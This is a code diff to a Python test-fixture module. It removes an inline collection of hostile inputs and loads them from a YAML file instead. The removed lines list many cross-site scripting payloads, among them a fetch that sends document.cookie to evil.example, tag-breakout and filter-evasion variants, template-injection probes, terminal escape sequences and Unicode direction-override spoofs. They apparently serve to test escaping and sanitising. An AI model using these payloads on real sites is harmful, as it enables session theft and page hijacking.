@@ -1,68 +1,9 @@
-"""Texts that would have effects if a page or a terminal interpreted them."""
+"""Texts that would have effects if a page or a terminal interpreted them (hostile_texts.yaml)."""
 
-SCRIPTS = ("alert(1)", "document.title='taken'", "fetch('//evil.example/'+document.cookie)")
-_TAGS = (
-    "<script>{}</script>",
-    "<scr<script>ipt>{}</scr</script>ipt>",
-    "<script\x0b>{}</script>",
-    "<<script>{}//<</script>",
-    "</bdi></p></div></main><script>{}</script>",
-    "</style><script>{}</script>",
-    "</title><script>{}</script>",
-    "]]><script>{}</script>",
-    "<img src=x onerror={}>",
-    "<img/src/onerror={}>",
-    "<svg><script>{}</script></svg>",
-    "<svg/onload={}>",
-    "<body onload={}>",
-    "<iframe srcdoc='<script>{}</script>'>",
-    "<a href=javascript:{}>x</a>",
-    "<form action=javascript:{}><button>x</form>",
-    "<details open ontoggle={}>",
-    "<meta http-equiv=refresh content=0;url=javascript:{}>",
-    "<base href=//evil.example/>{}",
-    '<noscript><p title="</noscript><img src=x onerror={}>">',
-    "<style>@import '//evil.example/';</style>{}",
-    '<p style="background:url(javascript:{})">x</p>',
-    "<x onclick={}>x</x>",
-    "<!-- {} --!>",
-    '" onmouseover="{}',
-    "' onmouseover='{}",
-    "'><script>{}</script>",
-    '" style="background:url(//evil.example)" x="{}',
-    '" autofocus tabindex=0 onfocus={} x="',
-)
-_OTHERS = (
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#x3c;script&#x3e;",
-    "&quot;&apos;&nbsp;",
-    "\\u003cscript\\u003e",
-    "+ADw-script+AD4-alert(1)",
-    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
-    "javascript:alert(1)",
-    "\uff1cscript\uff1ealert(1)",
-    "\ufeff<script>alert(1)</script>",
-    "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "\x1b]0;taken\x07",
-    "\x1b[31mred\x1b[0m",
-    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
-    "\x9b31m",
-    "safe\rtaken",
-    "a\x08\x08b",
-    "\u202egnp.exe",
-    "\u2066a\u2069\u202db",
-    "a\u2028b\u2029c",
-    "[MASK] </s> [SEP] <pad>",
-    "[link](javascript:alert(1))",
-    "[bold red]markup[/]",
-    "$\\frac{1}{0}$ $x^$",
-    "<b>bold</b> <i>it</i>",
-    "<",
-    '"',
-    "'",
-    "&",
-    "<!--",
-    "-->",
-    "&#0;",
-)
-HOSTILE = (*(tag.format(script) for tag in _TAGS for script in SCRIPTS if "{}" in tag), *_OTHERS)
+from pathlib import Path
+
+import yaml
+
+_TEXTS = yaml.safe_load(Path(__file__).with_suffix(".yaml").read_text("utf-8"))
+_TAGS = [tag.format(script) for tag in _TEXTS["tags"] for script in _TEXTS["scripts"] if "{}" in tag]
+HOSTILE = (*_TAGS, *_TEXTS["others"])
